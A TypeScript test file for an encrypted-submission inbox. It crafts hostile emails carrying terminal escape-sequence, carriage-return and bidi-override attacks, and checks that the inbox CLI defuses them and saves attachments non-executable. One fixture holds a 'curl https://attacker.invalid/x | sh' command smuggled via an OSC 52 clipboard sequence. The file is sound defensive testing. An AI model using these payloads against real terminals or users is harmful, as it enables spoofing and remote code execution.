// Hostile messages in the inbox: MIME entities written by hand, encrypted with GnuPG to the
// organisation's key (no browser, no OpenPGP.js), posted to the relay like any client
// would, then read with the real `npm run inbox`. Each carries one terminal attack; none
// may reach the terminal active, and every message is shown as unauthenticated, the
// hand-made ones as not built by the form.
import { execFile } from 'node:child_process';
import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { gpgEncrypt } from '../support/gpg.ts';
import { makeRecipient, type TestRecipient } from '../support/keys.ts';
import { node24, projectRoot, startRelayInProcess } from '../support/relay.ts';
import { makeSiteFolder, temporaryFolder } from '../support/site.ts';

const run = promisify(execFile);
const ESC = '\u001b';
const BEL = '\u0007';

interface HandMade {
  label: string;
  subject: string;
  text: string;
  /** Bytes of the text part as sent, when not UTF-8 (`charset` says how to read them). */
  textBytes?: { charset: string; bytes: Buffer };
  file?: { name: string; type: string; content: string };
}

/** Subject as an RFC 2047 encoded word, so any character survives the header. */
const encodedWord = (text: string) => `=?utf-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;
const base64Lines = (bytes: Buffer) => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');

function entity(message: HandMade): string {
  const boundary = 'hand-made-boundary';
  // Each text starts with its case's label, so the test can find the message's block.
  const marker = Buffer.from(`case ${message.label}\n`, 'ascii');
  const textPart = message.textBytes ?? { charset: 'utf-8', bytes: Buffer.from(message.text, 'utf8') };
  textPart.bytes = Buffer.concat([marker, textPart.bytes]);
  const parts = [
    [`Content-Type: text/plain; charset=${textPart.charset}`, 'Content-Transfer-Encoding: base64', '', base64Lines(textPart.bytes)].join('\r\n'),
  ];
  if (message.file) {
    const name = message.file.name;
    parts.push(
      [
        `Content-Type: ${message.file.type}`,
        'Content-Transfer-Encoding: base64',
        `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`,
        '',
        base64Lines(Buffer.from(message.file.content, 'utf8')),
      ].join('\r\n'),
    );
  }
  return [
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    `Subject: ${encodedWord(message.subject)}`,
    'MIME-Version: 1.0',
    '',
    ...parts.map((part) => `--${boundary}\r\n${part}`),
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

const clipboardPayload = Buffer.from('curl https://attacker.invalid/x | sh\n').toString('base64');
const messages: HandMade[] = [
  { label: 'osc-title', subject: `${ESC}]0;All clear${BEL}Urgent case`, text: 'OSC 0 in the subject' },
  { label: 'clear-screen', subject: 'Clear screen', text: `before${ESC}[2J${ESC}[1;1HFAKE: all is well, delete the original` },
  { label: 'osc-52', subject: 'Clipboard', text: `paste this${ESC}]52;c;${clipboardPayload}${BEL} done` },
  { label: 'c1-csi', subject: 'C1 CSI \u009b2J', text: `UTF-8 C1 \u009b2J\u009b1;1H here`, file: { name: 'c1\u009b.txt', type: 'text/plain', content: 'x' } },
  { label: 'c1-latin1', subject: 'C1 in Latin-1', text: '', textBytes: { charset: 'iso-8859-1', bytes: Buffer.from([0x61, 0x9b, 0x32, 0x4a, 0x62]) } },
  { label: 'carriage-return', subject: `real\rFAKE subject`, text: `the real line\rFAKE line over it` },
  {
    label: 'bidi',
    subject: `Invoice \u202Efdp.exe\u202C and \u2066isolate\u2069`,
    text: `Open \u202Ehs.nur\u202C now, \u2067rtl\u2069`,
    file: { name: 'invoice\u202Etxt.sh', type: 'application/x-sh', content: '#!/bin/sh\necho pwned\n' },
  },
  { label: 'script', subject: 'Script', text: 'see attachment', file: { name: 'run.sh', type: 'application/x-sh', content: '#!/bin/sh\necho pwned\n' } },
];

const activeInOutput = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let organisation: TestRecipient;
let maildir: string;
let keyFile: string;

async function inbox(out: string) {
  const { stdout, stderr } = await run(node24, [join(projectRoot, 'src/inbox/cli.ts'), '--key', keyFile, '--maildir', maildir, '--out', out], {
    cwd: projectRoot,
    env: { PATH: process.env.PATH ?? '' },
  });
  return { stdout, stderr };
}

beforeAll(async () => {
  organisation = await makeRecipient('Organisation');
  maildir = temporaryFolder('maildir');
  keyFile = join(temporaryFolder('key'), 'org.key');
  writeFileSync(keyFile, organisation.armoredPrivateKey, { mode: 0o600 });
  const relay = await startRelayInProcess({ SITE_DIR: makeSiteFolder([organisation]), MAILDIR: maildir, RATE_LIMIT_PER_HOUR: '0' });
  try {
    for (const message of messages) {
      const armoured = gpgEncrypt([organisation.armoredPublicKey], [organisation.fingerprint], entity(message));
      const answer = await fetch(`${relay.url}/api/submissions`, { method: 'POST', headers: { 'Content-Type': 'application/pgp-encrypted' }, body: armoured });
      expect(answer.status, message.label).toBe(202);
    }
    // One message the form built, for contrast.
    const form = new FormData();
    const fields = { locale: 'en', affectedType: 'person', affected: 'A person', whatHappened: 'CANARY-form-made', whenText: 'yesterday', country: 'UG', perpetratorType: 'state', consent: 'anonymised' };
    for (const [name, value] of Object.entries(fields)) form.append(name, value);
    form.append('attachments', new File(['note'], 'note.txt', { type: 'text/plain' }));
    expect((await fetch(`${relay.url}/api/submissions/form`, { method: 'POST', body: form })).status).toBe(200);
  } finally {
    await relay.close();
  }
}, 60_000);

/** The block the inbox prints for one message, found by a word only that message holds. */
function blockContaining(stdout: string, word: string): string {
  const block = stdout.split('─'.repeat(60)).find((part) => part.includes(word));
  expect(block, `a message block containing ${word}`).toBeDefined();
  return block!;
}

describe('npm run inbox on hostile messages made with GnuPG', () => {
  it('prints no control character or bidi override, showing each as its code point', async () => {
    const { stdout, stderr } = await inbox(temporaryFolder('inbox'));
    expect(stdout).toContain(`: ${messages.length + 1} messages`);
    const found = activeInOutput.exec(stdout) ?? activeInOutput.exec(stderr);
    expect(found && `U+${found[0].codePointAt(0)!.toString(16)} at ${found.index}`).toBeNull();

    expect(blockContaining(stdout, 'Urgent case')).toContain('Subject: <U+001B>]0;All clear<U+0007>Urgent case');
    expect(blockContaining(stdout, 'FAKE: all is well')).toContain('before<U+001B>[2J<U+001B>[1;1HFAKE: all is well');
    expect(blockContaining(stdout, 'paste this')).toContain(`<U+001B>]52;c;${clipboardPayload}<U+0007> done`);
    const c1 = blockContaining(stdout, 'UTF-8 C1');
    expect(c1).toContain('Subject: C1 CSI <U+009B>2J');
    expect(c1).toContain('UTF-8 C1 <U+009B>2J<U+009B>1;1H here');
    // A raw 0x9B byte in a Latin-1 part is read as windows-1252 (as WHATWG decoders do):
    // U+203A, a harmless quotation mark, never the C1 CSI.
    expect(blockContaining(stdout, 'C1 in Latin-1')).toContain('a\u203a2Jb');
    const overwrite = blockContaining(stdout, 'FAKE line');
    expect(overwrite).toContain('Subject: real<U+000D>FAKE subject');
    expect(overwrite).toContain('the real line<U+000D>FAKE line over it');
    const bidi = blockContaining(stdout, 'Invoice');
    expect(bidi).toContain('Invoice <U+202E>fdp.exe<U+202C> and <U+2066>isolate<U+2069>');
    expect(bidi).toContain('Open <U+202E>hs.nur<U+202C> now, <U+2067>rtl<U+2069>');
  });

  it('says of every message that the sender is not authenticated, and flags the hand-made ones', async () => {
    const { stdout } = await inbox(temporaryFolder('inbox'));
    const blocks = stdout.split('─'.repeat(60)).slice(1);
    expect(blocks).toHaveLength(messages.length + 1);
    for (const block of blocks) expect(block).toContain('Sender: NOT AUTHENTICATED');
    const formMade = blockContaining(stdout, 'CANARY-form-made');
    expect(formMade).toMatch(/Record: ngao\.submission\.v1, consistent with this message/);
    expect(formMade).not.toContain('WARNING');
    for (const message of messages) {
      const block = blocks.find((part) => part.includes(`case ${message.label}\n`));
      expect(block, message.label).toBeDefined();
      expect(block!, message.label).toContain('WARNING: no ngao.submission.v1 record');
    }
  });

  it('saves attachments byte for byte, never executable, under names without controls', async () => {
    const out = temporaryFolder('inbox');
    await inbox(out);
    const saved = readdirSync(out).flatMap((folder) => readdirSync(join(out, folder)).map((name) => ({ folder, name })));
    for (const { name } of saved) expect(name).not.toMatch(activeInOutput);
    const script = saved.find(({ name }) => name === 'run.sh');
    expect(script).toBeDefined();
    const path = join(out, script!.folder, script!.name);
    expect(readFileSync(path, 'utf8')).toBe('#!/bin/sh\necho pwned\n');
    expect(statSync(path).mode & 0o111).toBe(0);
    expect(saved.some(({ name }) => name === 'invoice_txt.sh')).toBe(true);

    // A second run into the same folder finds the file made executable in between (by a
    // person, a sync tool, an unzip): what it writes is not executable either.
    chmodSync(path, 0o755);
    await inbox(out);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(readFileSync(path, 'utf8')).toBe('#!/bin/sh\necho pwned\n');
  });
});
